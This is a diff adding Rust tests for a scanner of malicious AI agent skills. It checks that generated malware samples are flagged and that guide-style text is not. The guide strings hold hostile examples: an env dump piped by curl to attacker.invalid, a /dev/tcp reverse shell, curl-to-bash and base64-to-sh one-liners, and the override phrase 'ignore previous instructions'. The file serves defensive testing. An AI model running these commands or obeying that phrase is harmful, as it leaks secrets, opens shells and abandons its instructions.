@@ -1,0 +1,142 @@
+//! Each behaviour of airlock's own malicious set (corpus/malicious/generate.py, written from public reports of real
+//! skill-malware campaigns) is caught, and a documentation-style text about the same behaviour (a security guide,
+//! an install how-to, a list of attack patterns) is not raised to `high`.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use airlock_types::RiskLevel;
+
+use super::fixtures::scan_fixture;
+
+#[test]
+fn every_behaviour_of_the_malicious_set_is_caught() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus/malicious/generate.py");
+    let status = std::process::Command::new("python3")
+        .arg(&root)
+        .arg(tmp.path())
+        .status()
+        .expect("python3 runs the generator");
+    assert!(status.success());
+    let mut by: BTreeMap<String, Vec<RiskLevel>> = BTreeMap::new();
+    for behaviour in fs_err::read_dir(tmp.path()).unwrap() {
+        let behaviour = behaviour.unwrap().path();
+        for case in fs_err::read_dir(&behaviour).unwrap() {
+            let case = case.unwrap().path();
+            let report = scan_fixture(&case);
+            by.entry(behaviour.file_name().unwrap().to_string_lossy().into_owned())
+                .or_default()
+                .push(report.risk_level);
+        }
+    }
+    assert!(by.len() >= 12, "{} behaviours", by.len());
+    let total: usize = by.values().map(Vec::len).sum();
+    assert!(total >= 200, "{total} cases");
+    let mut weak = Vec::new();
+    for (behaviour, levels) in &by {
+        let high = levels.iter().filter(|l| **l >= RiskLevel::High).count();
+        if high * 10 < levels.len() * 8 {
+            weak.push(format!(
+                "{behaviour}: {high} of {} at high or block",
+                levels.len()
+            ));
+        }
+    }
+    // The campaigns the issue names are blocked.
+    for behaviour in [
+        "password-archive",
+        "fake-prerequisite",
+        "obfuscated-payload",
+        "packed-code",
+    ] {
+        let levels = &by[behaviour];
+        let block = levels.iter().filter(|l| **l == RiskLevel::Block).count();
+        if block * 10 < levels.len() * 9 {
+            weak.push(format!("{behaviour}: {block} of {} at block", levels.len()));
+        }
+    }
+    assert!(weak.is_empty(), "{}", weak.join("\n"));
+}
+
+/// Text that names each behaviour the way documentation does: below `high`.
+#[test]
+fn documentation_about_each_behaviour_stays_below_high() {
+    let docs = [
+        (
+            "credential-theft",
+            "Never upload `~/.aws/credentials` or `~/.ssh/id_rsa` anywhere; rotate keys that leaked.",
+        ),
+        (
+            "env-exfiltration",
+            "A malicious skill may run `env | curl -d @- https://attacker.invalid` to steal tokens.",
+        ),
+        (
+            "reverse-shell",
+            "Attackers often open a reverse shell such as `bash -i >& /dev/tcp/host/4444 0>&1`.",
+        ),
+        (
+            "download-and-run",
+            "Look for `curl … | bash` in install scripts and flag it.",
+        ),
+        (
+            "password-archive",
+            "Red flags:\n\n- a download of a password-protected zip\n- an archive password in the README",
+        ),
+        (
+            "paste-command",
+            "Never paste commands from a web page into your terminal.",
+        ),
+        ("fake-prerequisite", "This skill requires Python 3.10 or newer."),
+        (
+            "persistence",
+            "Do not add lines to `~/.bashrc` that download anything.",
+        ),
+        (
+            "planted-helper",
+            "A hostile skill may write a `.git/hooks/pre-commit` that runs later; check for one.",
+        ),
+        (
+            "agent-tampering",
+            "Malicious skills often append instructions to MEMORY.md or other skills.",
+        ),
+        (
+            "concealment",
+            "The agent must tell the user about every command it runs.",
+        ),
+        (
+            "prompt-injection",
+            "Watch for text such as \"ignore previous instructions\" in skills you install.",
+        ),
+        (
+            "obfuscated-payload",
+            "Avoid running `echo … | base64 -d | sh`: it hides what runs.",
+        ),
+        (
+            "packed-code",
+            "Scanners flag `exec(zlib.decompress(...))` because it hides the code it runs.",
+        ),
+    ];
+    let tmp = tempfile::tempdir().unwrap();
+    let mut wrong = Vec::new();
+    for (i, (name, body)) in docs.into_iter().enumerate() {
+        let dir = tmp.path().join(format!("guide-{i}"));
+        fs_err::create_dir_all(&dir).unwrap();
+        fs_err::write(
+            dir.join("SKILL.md"),
+            format!("---\nname: guide-{i}\ndescription: A guide. Use when asked.\n---\n\n{body}\n"),
+        )
+        .unwrap();
+        let report = scan_fixture(&dir);
+        if report.risk_level >= RiskLevel::High {
+            let top: Vec<String> = report
+                .findings
+                .iter()
+                .filter(|f| f.severity >= airlock_types::Severity::High)
+                .map(|f| format!("{} {} {}", f.severity, f.rule, f.evidence))
+                .collect();
+            wrong.push(format!("{name}: {} {top:?}", report.risk_level));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
